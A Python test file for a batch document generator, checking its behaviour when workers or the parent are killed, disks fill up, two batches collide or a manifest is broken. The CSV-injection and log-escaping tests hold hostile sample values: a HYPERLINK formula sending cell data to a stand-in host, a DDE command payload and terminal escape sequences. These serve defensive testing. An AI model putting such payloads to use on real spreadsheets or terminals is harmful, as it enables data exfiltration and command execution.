"""Faults around `annex batch`: real processes killed (a worker, the parent, an interrupt), two
batches in one folder, a full or read-only disk, a broken previous manifest, hostile values in
the manifest's CSV and in log lines. After each: the documented exit code, one message and no
traceback, only complete annexes on disk, a manifest that matches them, no process left."""
import copy
import csv
import errno
import hashlib
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml

from generator.infra.atomic import LOCK_NAME, TEMP_PREFIX
from generator.infra.diagnostics import InputError

from ..conftest import CUSTOMERS, ROOT
from ..helpers import annex as run_annex
from ..test_batch import complete

TIMEOUT = 60  # a regression fails the test instead of hanging it
BASE = yaml.safe_load(CUSTOMERS.read_text(encoding="utf-8"))["customers"]


def annex(*args, **kw):
    return run_annex(*args, timeout=TIMEOUT, **kw)


def start(*args) -> subprocess.Popen:
    return subprocess.Popen([sys.executable, "-m", "generator", *args], cwd=ROOT, stdout=subprocess.DEVNULL,
                            stderr=subprocess.PIPE, text=True, start_new_session=True)


def customers_file(tmp_path: Path, ids: list[str], name: str = "c.yaml") -> Path:
    """Sample customers under new ids (cycling through the sample file's customers)."""
    rows = [dict(copy.deepcopy(BASE[i % len(BASE)]), id=cid) for i, cid in enumerate(ids)]
    path = tmp_path / name
    path.write_text(yaml.safe_dump({"customers": rows}, allow_unicode=True), encoding="utf-8")
    return path


@pytest.fixture
def hang_brand(tmp_path) -> Path:
    """A brand whose HTML template never ends for a customer whose id starts with `hang`: its
    worker is busy for as long as the test wants to find and kill it."""
    folder = tmp_path / "brand"
    folder.mkdir()
    default = (ROOT / "templates" / "default" / "annex.html.j2").read_text(encoding="utf-8")
    spin = ('{% if annex.customer and annex.customer.id.startswith("hang") %}'
            '{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}{% endif %}')
    (folder / "annex.html.j2").write_text(spin + default, encoding="utf-8")
    return folder


def children(pid: int) -> list[int]:
    """Live child processes of `pid` (its forked workers share its command line)."""
    found = []
    for task in Path(f"/proc/{pid}/task").glob("*"):
        try:
            found += [int(c) for c in (task / "children").read_text().split()]
        except OSError:
            pass
    return [c for c in found if alive(c)]


def alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (OSError, IndexError):
        return False
    return state not in ("Z", "X")


def wait_for(condition, what: str, proc: subprocess.Popen | None = None, limit: float = TIMEOUT):
    deadline = time.monotonic() + limit
    while time.monotonic() < deadline:
        value = condition()
        if value:
            return value
        if proc is not None and proc.poll() is not None:
            pytest.fail(f"the batch ended before {what}: {proc.stderr.read()}")
        time.sleep(0.05)
    pytest.fail(f"timed out waiting for {what}")


def stop(proc: subprocess.Popen) -> None:
    if proc.poll() is None:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait(TIMEOUT)


def annexes_on_disk(out: Path) -> dict[str, str]:
    return {p.relative_to(out).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in out.rglob("*") if p.suffix in (".pdf", ".docx") and not p.name.startswith(TEMP_PREFIX)}


def assert_consistent(out: Path) -> list[dict]:
    """The manifest's written and unchanged entries are exactly the annexes on disk, by sha256;
    every annex is complete and no temporary is left."""
    entries = json.loads((out / "manifest.json").read_text(encoding="utf-8"))["annexes"]
    kept = {e["path"]: e["sha256"] for e in entries if e["status"] in ("written", "unchanged")}
    assert kept == annexes_on_disk(out)
    assert all(complete(out / p) for p in kept)
    assert not list(out.rglob(TEMP_PREFIX + "*")) and not (out / LOCK_NAME).exists()
    return entries


def clean(stderr: str) -> None:
    assert "Traceback" not in stderr and "Error:" not in stderr, stderr


# --- a dead worker ------------------------------------------------------------------------------

def test_a_worker_killed_mid_batch_costs_nothing(tmp_path):
    """SIGKILL of one worker (as the OOM killer does): its job is retried, the batch completes."""
    ids = [f"c{n}" for n in range(8)]
    out = tmp_path / "out"
    proc = start("batch", str(customers_file(tmp_path, ids)), "--format", "pdf", "-j", "2", "-o", str(out))
    try:
        wait_for(lambda: len(list(out.rglob("*.pdf"))) >= 2, "two annexes", proc)
        victim = wait_for(lambda: children(proc.pid), "a worker", proc)[0]
        os.kill(victim, signal.SIGKILL)
        _, err = proc.communicate(timeout=TIMEOUT)
    finally:
        stop(proc)
    assert proc.returncode == 0, err
    clean(err)
    entries = assert_consistent(out)
    assert len(entries) == len(ids) and {e["status"] for e in entries} == {"written"}


def test_a_job_that_kills_its_worker_twice_fails_alone(tmp_path, hang_brand):
    out = tmp_path / "out"
    proc = start("batch", str(customers_file(tmp_path, ["hang", "ok1", "ok2", "ok3"])), "--format", "pdf",
                 "-j", "2", "--templates", str(hang_brand), "-o", str(out))
    try:
        wait_for(lambda: len(list(out.rglob("*.pdf"))) == 3 and len(children(proc.pid)) == 1,
                 "the three other annexes, and the idle worker gone", proc)
        first = children(proc.pid)[0]
        os.kill(first, signal.SIGKILL)
        second = wait_for(lambda: [c for c in children(proc.pid) if c != first], "a fresh worker", proc)[0]
        os.kill(second, signal.SIGKILL)
        _, err = proc.communicate(timeout=TIMEOUT)
    finally:
        stop(proc)
    assert proc.returncode == 1, err
    clean(err)
    assert "trying once more in a fresh worker" in err and "FAILED hang" in err
    entries = {e["customer"]: e for e in assert_consistent(out)}
    assert {c: e["status"] for c, e in entries.items()} == {"hang": "failed", "ok1": "written", "ok2": "written",
                                                           "ok3": "written"}
    assert "died 2 times" in entries["hang"]["error"] and "SIGKILL" in entries["hang"]["error"]


# --- the parent dies or is interrupted ----------------------------------------------------------

def test_workers_exit_when_the_parent_is_killed(tmp_path, hang_brand):
    out = tmp_path / "out"
    proc = start("batch", str(customers_file(tmp_path, ["hang1", "hang2"])), "--format", "pdf", "-j", "2",
                 "--templates", str(hang_brand), "-o", str(out))
    try:
        workers = wait_for(lambda: (lambda c: c if len(c) == 2 else None)(children(proc.pid)), "two workers", proc)
        os.kill(proc.pid, signal.SIGKILL)  # the parent only, not its process group
        proc.wait(TIMEOUT)
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and any(alive(w) for w in workers):
            time.sleep(0.1)
        left = [w for w in workers if alive(w)]
    finally:
        for w in workers:
            if alive(w):
                os.kill(w, signal.SIGKILL)
    assert not left, f"workers {left} outlived their parent by 5 s"


@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM])
def test_an_interrupt_with_two_workers_is_clean(tmp_path, sig):
    ids = [f"c{n}" for n in range(24)]
    out = tmp_path / "out"
    proc = start("batch", str(customers_file(tmp_path, ids)), "-j", "2", "-o", str(out))
    try:
        wait_for(lambda: len(list(out.rglob("*.pdf"))) >= 3 and len(children(proc.pid)) == 2, "three annexes", proc)
        workers = children(proc.pid)
        if sig == signal.SIGINT:
            os.killpg(proc.pid, sig)  # as a terminal's Ctrl-C does: the whole process group
        else:
            proc.send_signal(sig)
        _, err = proc.communicate(timeout=TIMEOUT)
    finally:
        stop(proc)
    assert proc.returncode == 130, err
    clean(err)
    assert "interrupted: annexes written so far are complete" in err
    assert not any(alive(w) for w in workers)
    on_disk = annexes_on_disk(out)
    assert on_disk and all(complete(out / p) for p in on_disk)
    assert not list(out.rglob(TEMP_PREFIX + "*")) and not (out / "manifest.json").exists()
    assert not (out / LOCK_NAME).exists()


# --- two batches, one folder --------------------------------------------------------------------

def test_a_second_batch_into_the_same_folder_is_refused(tmp_path, hang_brand):
    out = tmp_path / "out"
    first = start("batch", str(customers_file(tmp_path, ["hang", "one"])), "--format", "pdf", "-j", "2",
                  "--templates", str(hang_brand), "-o", str(out))
    try:
        wait_for(lambda: (out / "one").is_dir() and (out / LOCK_NAME).exists()
                 and (out / LOCK_NAME).read_text().strip(), "the first batch to lock the folder", first)
        theirs = out / f"{TEMP_PREFIX}being-written.pdf"  # what the first batch is writing
        theirs.write_bytes(b"%PDF-")
        second = annex("batch", str(customers_file(tmp_path, ["two"], "d.yaml")), "--format", "pdf", "-o", str(out))
        assert second.returncode == 2, second.stderr
        clean(second.stderr)
        assert f"another batch (pid {first.pid}) is writing into this output folder" in second.stderr
        assert theirs.exists() and not (out / "two").exists()
        first.send_signal(signal.SIGTERM)
        _, err = first.communicate(timeout=TIMEOUT)
        assert first.returncode == 130, err
    finally:
        stop(first)
    third = annex("batch", str(customers_file(tmp_path, ["two"], "d.yaml")), "--format", "pdf", "-o", str(out))
    assert third.returncode == 0, third.stderr  # the lock died with its holder
    assert not theirs.exists()


# --- the output: CSV injection, unwritable folders, a full disk, a broken manifest ---------------

def test_manifest_csv_cells_cannot_run_as_formulas(tmp_path):
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-3", "@SUM(A1)", "\tTab", "\rCR"]
    rows = [{"id": h, "name": "X", "lang": "fr", "matrices": ["s3-object-storage"]} for h in hostile]
    rows.append(dict(copy.deepcopy(BASE[0]), id="fine", matrices=["=cmd|' /C calc'!A0"]))
    path = tmp_path / "c.yaml"
    path.write_text(yaml.safe_dump({"customers": rows}), encoding="utf-8")
    out = tmp_path / "out"
    run = annex("batch", str(path), "--format", "docx", "-o", str(out))
    assert run.returncode == 1, run.stderr
    clean(run.stderr)
    entries = json.loads((out / "manifest.json").read_text(encoding="utf-8"))["annexes"]
    with open(out / "manifest.csv", newline="", encoding="utf-8") as f:
        table = list(csv.DictReader(f))
    assert len(table) == len(entries) == len(rows)
    assert {e["customer"] for e in entries} == set(hostile) | {"fine"}  # the JSON keeps the true values
    for entry, row in zip(entries, table, strict=True):
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
            true = str(entry[column])
            assert value == (("'" + true) if true.startswith(("=", "+", "-", "@", "\t", "\r")) else true)


@pytest.fixture
def read_only(tmp_path) -> Path:
    """A read-only folder; for root (who ignores permissions) a read-only tmpfs."""
    folder = tmp_path / "ro"
    folder.mkdir()
    if os.geteuid() != 0:
        folder.chmod(0o555)
        yield folder
        folder.chmod(0o755)
        return
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "ro,size=64k", "tmpfs", str(folder)],
                      capture_output=True).returncode:
        pytest.skip("cannot mount a read-only tmpfs here")
    yield folder
    subprocess.run(["umount", str(folder)], check=True)


@pytest.fixture
def tiny_disk(tmp_path) -> Path:
    """A 256 KiB file system: room for a few annexes, not for all."""
    folder = tmp_path / "tiny"
    folder.mkdir()
    if os.geteuid() != 0 or subprocess.run(["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(folder)],
                                           capture_output=True).returncode:
        pytest.skip("cannot mount a tmpfs here")
    yield folder
    subprocess.run(["umount", str(folder)], check=True)


@pytest.mark.parametrize("command", ["batch", "build"])
@pytest.mark.parametrize("kind", ["file", "read-only"])
def test_an_unwritable_output_is_one_message_before_any_work(tmp_path, request, command, kind):
    out = tmp_path / "out"
    if kind == "file":
        out.write_text("not a folder")
    else:
        out = request.getfixturevalue("read_only")
    args = (["batch", str(CUSTOMERS)] if command == "batch"
            else ["build", "s3-object-storage", "--customer", f"{CUSTOMERS}#banque-horizon"])
    run = annex(*args, "--format", "docx", "-o", str(out))
    assert run.returncode == 2, run.stderr
    clean(run.stderr)
    assert str(out) in run.stderr and "fix:" in run.stderr
    assert ("is a file, not a folder" if kind == "file" else "cannot write") in run.stderr
    assert kind == "file" and out.read_text() == "not a folder" or not any(out.iterdir())


def test_a_full_disk_fails_the_annexes_it_hits_and_says_so(tiny_disk):
    out = tiny_disk / "out"
    run = annex("batch", str(CUSTOMERS), "--format", "pdf", "-j", "2", "-o", str(out))
    clean(run.stderr)
    assert run.returncode in (1, 2), run.stderr  # 2 when not even the manifest fits
    assert "No space left on device" in run.stderr and "written" in run.stderr
    assert not list(out.rglob(TEMP_PREFIX + "*"))
    if (out / "manifest.json").exists():
        entries = assert_consistent(out)
        assert any(e["status"] == "failed" and "No space left on device" in e["error"] for e in entries)
    else:
        assert "manifest" in run.stderr and all(complete(p) for p in out.rglob("*.pdf"))


def _disk_full_for(monkeypatch, needle: str) -> None:
    """Writes whose temporary file's path contains `needle` fail as on a full disk."""
    import generator.infra.atomic as atomic
    real = os.fdopen

    def fdopen(fd, *args, **kw):
        if needle in os.readlink(f"/proc/self/fd/{fd}"):
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return real(fd, *args, **kw)
    monkeypatch.setattr(atomic.os, "fdopen", fdopen)


def _batch(out: Path, jobs: int = 1) -> int:
    import gc

    from generator.commands.batch import run_batch
    try:
        return run_batch(CUSTOMERS, jobs=jobs, formats=["docx"], out_dir=out, force=True, templates=None,
                         data_dir=ROOT / "data")
    finally:
        gc.unfreeze()  # what the batch froze before forking its workers (this is the test process)


def test_a_full_disk_while_writing_one_annex_fails_that_annex_alone(tmp_path, monkeypatch, capsys):
    _disk_full_for(monkeypatch, "/mutuelle-atlantique/")
    out = tmp_path / "out"
    assert _batch(out, jobs=2) == 1
    err = capsys.readouterr().err
    clean(err)
    entries = assert_consistent(out)
    failed = [e for e in entries if e["status"] == "failed"]
    assert [e["customer"] for e in failed] == ["mutuelle-atlantique"]
    assert "cannot write: No space left on device" in failed[0]["error"] and "mutuelle-atlantique" in err
    assert len(entries) == 6 and not list((out / "mutuelle-atlantique").glob("*.docx"))


def test_a_full_disk_while_writing_the_manifest_keeps_the_old_one_whole(tmp_path, monkeypatch, capsys):
    out = tmp_path / "out"
    assert _batch(out) == 0
    before = {n: (out / n).read_bytes() for n in ("manifest.json", "manifest.csv")}
    _disk_full_for(monkeypatch, "/out/" + TEMP_PREFIX)  # the manifest's temporaries, not the annexes'
    with pytest.raises(InputError) as caught:
        _batch(out)
    message = caught.value.diagnostics[0].format()
    assert "manifest" in message and "No space left on device" in message and "fix:" in message
    assert {n: (out / n).read_bytes() for n in before} == before
    assert not list(out.rglob(TEMP_PREFIX + "*")) and not (out / LOCK_NAME).exists()


def test_a_previous_manifest_that_is_not_a_list_of_entries_is_a_warning(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "manifest.json").write_text(json.dumps({"annexes": [1, "x", None, {"customer": []}]}), encoding="utf-8")
    run = annex("batch", str(CUSTOMERS), "--format", "docx", "-o", str(out))
    assert run.returncode == 0, run.stderr
    clean(run.stderr)
    assert "manifest.json: warning: 4 entries of the previous manifest cannot be used" in run.stderr
    assert len(assert_consistent(out)) == 6


@pytest.mark.parametrize("name", ["manifest.json", "manifest.csv"])
def test_a_manifest_that_is_a_folder_stops_the_batch_before_any_work(tmp_path, name):
    out = tmp_path / "out"
    (out / name).mkdir(parents=True)
    run = annex("batch", str(CUSTOMERS), "--format", "docx", "-o", str(out))
    assert run.returncode == 2, run.stderr
    clean(run.stderr)
    assert f"{out / name}: error: a folder stands where the manifest goes" in run.stderr
    assert sorted(p.name for p in out.iterdir()) == [name]


# --- what reaches the terminal -------------------------------------------------------------------

def test_control_characters_from_the_data_are_escaped_in_log_lines(tmp_path):
    rows = [dict(copy.deepcopy(BASE[0]), id="evil\x1b[2J\x1b]0;pwned\x07", matrices=["s3\x1b[31m-x"]),
            dict(copy.deepcopy(BASE[1]), id="fine")]
    path = tmp_path / "c.yaml"
    path.write_text(yaml.safe_dump({"customers": rows}, allow_unicode=True), encoding="utf-8")
    for args in (["batch", str(path), "--format", "docx", "-o", str(tmp_path / "out")], ["validate", str(path)]):
        run = annex(*args)
        assert run.returncode == 1, run.stderr
        clean(run.stderr)
        raw = [ch for ch in run.stderr + run.stdout if ord(ch) < 32 and ch not in "\n" or 0x7f <= ord(ch) <= 0x9f]
        assert not raw, (args[0], raw)
    batch = annex("batch", str(path), "--format", "docx", "-o", str(tmp_path / "out"))
    assert "FAILED evil\\x1b[2J\\x1b]0;pwned\\x07" in batch.stderr
    manifest = json.loads((tmp_path / "out" / "manifest.json").read_text(encoding="utf-8"))
    assert rows[0]["id"] in {e["customer"] for e in manifest["annexes"]}  # the data itself is kept


def test_a_bug_hit_by_one_customer_names_it_and_fails_it_alone(tmp_path, monkeypatch, capsys):
    import generator.pipeline.job as job
    real = job.build_annex

    def build_annex(matrix, customer, brand, **kw):
        if customer.id == "mutuelle-atlantique":
            raise RuntimeError("unexpected state")
        return real(matrix, customer, brand, **kw)
    monkeypatch.setattr(job, "build_annex", build_annex)  # the forked workers inherit it
    out = tmp_path / "out"
    assert _batch(out, jobs=2) == 1
    err = capsys.readouterr().err
    assert "Traceback" not in err
    assert ("FAILED mutuelle-atlantique s3-object-storage docx: internal error (a bug in annex, please report it "
            "with this line): RuntimeError: unexpected state") in err
    entries = assert_consistent(out)
    assert [e["customer"] for e in entries if e["status"] == "failed"] == ["mutuelle-atlantique"]
    assert sum(e["status"] == "written" for e in entries) == 5


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_a_job_past_the_time_limit_fails_alone(tmp_path, hang_brand, jobs):
    """A customer whose annex would take forever (here a template that spins for it) is stopped
    after --job-timeout; the others are built, the manifest is written, exit 1; with -j 1 too."""
    out = tmp_path / "out"
    proc = start("batch", str(customers_file(tmp_path, ["ok1", "hang", "ok2"])), "--format", "pdf", "-j", jobs,
                 "--job-timeout", "8", "--templates", str(hang_brand), "-o", str(out))
    try:
        _, err = proc.communicate(timeout=TIMEOUT)
    finally:
        stop(proc)
    assert proc.returncode == 1, err
    clean(err)
    assert "FAILED hang" in err and "took longer than 8 s" in err
    entries = {e["customer"]: e for e in assert_consistent(out)}
    assert entries["hang"]["status"] == "failed" and "--job-timeout" in entries["hang"]["error"]
    assert entries["ok1"]["status"] == entries["ok2"]["status"] == "written"
    assert not children(proc.pid)
